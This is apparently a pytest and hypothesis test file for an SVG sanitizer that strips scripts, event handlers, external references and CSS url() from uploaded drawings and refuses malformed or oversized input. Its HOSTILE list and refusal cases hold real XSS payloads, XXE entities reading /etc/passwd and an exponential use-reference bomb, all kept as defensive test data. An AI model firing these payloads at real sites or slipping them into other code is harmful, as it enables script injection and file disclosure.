"""What comes in of an SVG drawing: lines, areas and words, and nothing that acts, loads or points outside."""

from __future__ import annotations

import re
from xml.etree.ElementTree import Element, fromstring, tostring

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub.errors import Refused
from hub.rooms.drawing import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, clean

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
)
NOWHERE = re.compile(
    r"<!|<\?|script|foreignObject|\bon\w+=|style|url\(|data:|https?:(?!//www.w3.org/2000/svg)|javascript|import|&(?!amp;|lt;|gt;|quot;|#\d+;)",
    re.IGNORECASE,
)
"""What no drawing that came in has anywhere but in its words."""


def svg(inside: str) -> bytes:
    return f"{HEAD}{inside}</svg>".encode()


def drawn(inside: str) -> str:
    """What came in of it, without the outermost element."""
    found = clean(svg(inside)).svg
    return found.partition(">")[2].removesuffix("</svg>")


def refused(data: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        clean(data)
    assert refusal.value.slug == "bad-drawing"
    return refusal.value.detail


HOSTILE = [
    "<script>alert(1)</script>",
    "<script href='https://evil.example/x.js'/>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<g onclick='alert(1)' onload='alert(1)'/>",
    "<g ONCLICK='alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<image href='data:image/png;base64,AAAA'/>",
    "<image xlink:href='https://evil.example/pixel.png'/>",
    "<feImage href='https://evil.example/'/>",
    "<a href='javascript:alert(1)'><text>click</text></a>",
    "<use href='https://evil.example/x.svg#a'/>",
    "<use xlink:href='other.svg#a'/>",
    "<use href='data:image/svg+xml,x#a'/>",
    "<use href=' javascript:alert(1)'/>",
    "<path href='#a' d='M0 0'/>",
    "<style>@import url(https://evil.example/x.css); * { fill: red }</style>",
    "<rect style='fill:url(https://evil.example/#a)'/>",
    "<rect style='background:URL(//evil.example)'/>",
    "<rect style='fill:u\\72l(//evil.example)'/>",
    "<rect fill='url(#a)'/>",
    "<rect fill='url(https://evil.example/a.svg#b)'/>",
    "<rect fill='u\\72l(//evil.example)'/>",
    "<rect filter='url(#a)' mask='url(#b)' clip-path='url(#c)'/>",
    "<rect fill='var(--x)' stroke='attr(data-x)' color='expression(alert(1))'/>",
    "<rect fill='image-set(1 1)' transform='url (x)'/>",
    "<text font-family='x;background:url(//evil.example)'>a</text>",
    "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<set attributeName='onclick' to='alert(1)'/>",
    "<use href='#a'><set attributeName='href' to='//evil.example'/></use>",
    "<handler type='application/ecmascript'>alert(1)</handler>",
    "<iframe src='https://evil.example'/><audio/><video/><canvas/>",
    "<metadata><script>alert(1)</script></metadata>",
    "<title><script>alert(1)</script></title>",
    "<text><tspan onmouseover='alert(1)'><script>alert(1)</script></tspan></text>",
    "<defs><style>x</style><script>x</script></defs>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<g xml:base='https://evil.example/'/>",
    "<g xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='click'/>",
    "<rect class='x' id='a\"onload=alert(1)'/>",
    "<rect id='&quot;&gt;&lt;script&gt;'/>",
    "<rect fill='red&quot; onload=&quot;alert(1)'/>",
    "<svg onload='alert(1)'><script>x</script></svg>",
    "<pattern id='p'><image href='//x'/></pattern>",
]


@pytest.mark.parametrize("inside", HOSTILE)
def test_nothing_that_acts_or_loads_comes_in(inside):
    found = clean(svg(inside + "<rect width='1' height='1'/>")).svg
    assert NOWHERE.search(found) is None
    assert '<rect width="1" height="1">' in found
    fromstring(found)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not well-formed"),
        (b"hello", "not well-formed"),
        (b"\xff\xfe<\x00s\x00", "not well-formed"),
        (b"<svg/>", "no SVG"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "no SVG"),
        (b'<g xmlns="http://www.w3.org/2000/svg"/>', "no SVG"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"/>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan inf"/>', "how large"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="5"/>', "how large"),
        (svg("<g>")[:-6], "not well-formed"),
        (svg("&nbsp;"), "not well-formed"),
        (svg("\x00"), "not well-formed"),
        (b"<!DOCTYPE svg>" + svg(""), "DOCTYPE"),
        (b'<!DOCTYPE svg [<!ENTITY a "b">]>' + svg("&a;"), "DOCTYPE"),
        (b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<text>&a;</text>"), "DOCTYPE"),
        (b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + svg(""), "DOCTYPE"),
        (b'<?xml version="1.0" encoding="utf-7"?>' + svg("+ADw-script+AD4-"), ""),
        (b" " * (MAX_BYTES + 1), "KiB"),
        (svg("<g/>" * MAX_ELEMENTS), "elements"),
        (svg("<script/>" * MAX_ELEMENTS), "elements"),
        (svg("<g>" * MAX_DEPTH + "</g>" * MAX_DEPTH), "deep"),
        (svg("<g id='a'><use href='#a'/></g>"), "without end"),
        (svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/><use href='#a'/></g>"), "without end"),
    ],
)
def test_what_is_no_drawing_or_too_much_is_refused(data, reason):
    if not reason:  # the encoding it names is not the one it is read in
        assert "script" not in clean(data).svg
    else:
        assert reason in refused(data)


def test_few_parts_that_repeat_each_other_are_counted_as_what_they_draw():
    doubling = "<g id='g0'><rect/></g>" + "".join(
        f"<g id='g{n}'><use href='#g{n - 1}'/><use href='#g{n - 1}'/></g>" for n in range(1, 25)
    )
    assert "repeats" in refused(svg(doubling))
    assert drawn("<g id='a'><rect/></g>" + "<use href='#a'/>" * 100).count("<use") == 100


def test_lines_areas_and_words_come_in_as_they_are():
    inside = (
        '<g id="drawn-wall" transform="translate(1,2) rotate(45)" fill="none" stroke="#333" stroke-width="0.5">'
        '<path d="M0 0L5,5h-1.5e-3z"></path><polyline points="0,0 1,1"></polyline>'
        '<rect x="1" y="2" width="3" height="4" rx="1" fill="rgb(1, 2, 3)"></rect></g>'
        '<use href="#drawn-wall" x="5"></use><text font-size="2">R&amp;D &lt;3</text><title>Étage — 1階</title>'
    )
    assert drawn(inside) == inside
    assert clean(svg(inside)).left_out == ()


def test_style_becomes_attributes_and_goes_before_them():
    found = clean(svg("<rect fill='blue' style='fill : #eee; stroke:red;-x-y:1;filter:url(#f)'/>"))
    assert '<rect fill="#eee" stroke="red">' in found.svg
    assert found.left_out == ("filter",)


def test_colour_that_does_not_come_in_leaves_a_hole_not_a_black_area():
    found = clean(svg("<rect fill='url(#gradient)'/><rect style='fill:url(#gradient)'/>"))
    assert found.svg.count('<rect fill="none">') == 2
    assert found.left_out == ("fill",)


def test_ids_are_set_apart_from_the_pages_and_references_follow():
    assert (
        drawn("<g id='app'/><use xlink:href='#app'/>")
        == '<g id="drawn-app"></g><use href="#drawn-app"></use>'
    )


def test_only_use_refers_to_anything_and_only_within_the_drawing():
    assert (
        drawn("<use href='app'/><path href='#app'/><use href='#'/>") == "<use></use><path></path><use></use>"
    )


def test_words_come_in_again_as_they_are_with_every_kind_of_blank():
    inside = '<text fill="a b">1&#13;2\n3\t4</text>'
    assert drawn(inside) == inside


def test_size_is_taken_from_width_and_height_where_there_is_no_view_box():
    data = b'<svg xmlns="http://www.w3.org/2000/svg" width="640px" height="480" fill="none" onload="x"/>'
    assert (
        clean(data).svg == '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 480" fill="none"></svg>'
    )


def test_it_names_what_it_left_out():
    found = clean(
        svg("<script/><image href='x'/><g onclick='x' class='y'/><text>words<a href='x'>more</a></text>")
    )
    assert found.left_out == ("<a>", "<image>", "<script>", "class", "onclick")
    assert "more" not in found.svg


def holds(data: bytes) -> None:
    """Either it is refused, or what came in is harmless, and comes in again as it is."""
    try:
        found = clean(data)
    except Refused:
        return
    root = fromstring(found.svg)
    for element in root.iter():
        assert element.tag.startswith("{http://www.w3.org/2000/svg}")
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert name == "href" or ":" not in value
            assert "url" not in value.lower() or "(" not in value
    assert clean(found.svg.encode()).svg == found.svg


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_are_refused_or_harmless(data):
    holds(data)
    holds(svg("") + data)
    holds(HEAD.encode() + data + b"</svg>")


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *"<>/'\"&;#()",
        *("<g>", "</g>", "<g ", "/>", "<text>", "</text>", "\r\n", "&#13;", "&#x9;", "&lt;", "]]>"),
        *(
            "<!--",
            "-->",
            "<![CDATA[",
            "<?p",
            "?>",
            "<!DOCTYPE",
            "fill='",
            "style='",
            "id='",
            "href='#",
            "url(",
        ),
        *("xmlns='", "xmlns:x='http://www.w3.org/2000/svg' ", "<x:rect/>", "é", "\u2028", "\ufeff"),
    ]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES | st.text(max_size=5), max_size=14))
def test_hostile_pieces_in_any_order_are_refused_or_harmless(pieces):
    holds(f"{HEAD}{''.join(pieces)}</svg>".encode("utf-8", "replace"))


WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from(["fill", "id", "href", "style", "d", "transform", "font-family", "onload", "x"]), WORDS
)
def test_any_value_of_any_attribute_is_refused_or_harmless(name, value):
    element = Element("{http://www.w3.org/2000/svg}use", {name: value})
    element.text = value
    holds(svg(tostring(element, "unicode")))
